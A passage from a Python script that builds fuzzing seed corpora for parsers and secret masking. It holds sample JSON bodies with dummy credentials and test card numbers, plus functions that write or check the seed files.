    "configmap-pretty": b"\x03" + json.dumps({"kind": "ConfigMap", "data": {"password": "p", "note": "card 4111 1111 1111 1111"},
                                              "binaryData": {"b": "AAE="}}, indent=2).encode(),
    "escapes": b"\x02" + b'{"a": "\\u0034111 1111 1111 1111", "\\"k": "\\ud83d\\ude00", "n": 4111111111111111, "f": -1.5e-3}',
    "kind-last": b"\x01" + b'{"data": {"password": "p"}, "kind": "Service", "x": [true, false, null, []]}',
    "status-error": b"\x09" + json.dumps({"kind": "Status", "status": "Failure",
                                          "message": "secrets \"x\" already exists; owner ada@example.org", "code": 409}).encode(),
    "plain-api": b"\x04" + json.dumps([{"user": {"email": "ada@example.org", "password": "hunter2"}}, {"a.b": [1, 2]}]).encode(),
    "not-json": b"\x02" + b"{'a': 1}",
    "cut": b"\x03" + b'{"a": [1, 2, {"b": "unterminated',
}


# -- writing ------------------------------------------------------------------------------


def corpora() -> dict[str, dict[str, bytes]]:
    encode = lambda texts: {k: v.encode("utf-8", "surrogateescape") for k, v in texts.items()}  # noqa: E731
    return {
        "pg_codec": pg_codec(),
        "pg_tracker": pg_tracker(),
        "sql": encode(SQL),
        "http_wire": http_wire(),
        "sftp": sftp_corpus(),
        "ssh_commands": encode(COMMANDS),
        "masking": encode(MASKING),
        "json_body": JSON_BODIES,
    }


def main() -> int:
    parser = argparse.ArgumentParser(description=__doc__.strip().splitlines()[0])
    parser.add_argument("--check", action="store_true", help="only compare the corpora with what would be written")
    args = parser.parse_args()
    stale = []
    for target, seeds in corpora().items():
        folder = CORPORA / target
        present = {p.name for p in folder.iterdir()} if folder.is_dir() else set()
        if args.check:
            stale += [f"{target}/{n}" for n, data in seeds.items()
                      if not (folder / n).is_file() or (folder / n).read_bytes() != data]
            stale += [f"{target}/{n} (not written by seeds.py)" for n in sorted(present - set(seeds))]
            continue
        folder.mkdir(parents=True, exist_ok=True)
        for n in sorted(present - set(seeds)):
            (folder / n).unlink()
        for n, data in seeds.items():
            (folder / n).write_bytes(data)
        print(f"{target}: {len(seeds)} seeds, {sum(map(len, seeds.values()))} bytes")
    if stale:
        print("stale seeds:", *stale, sep="\n  ")
        return 1
    return 0


if __name__ == "__main__":
    sys.exit(main())
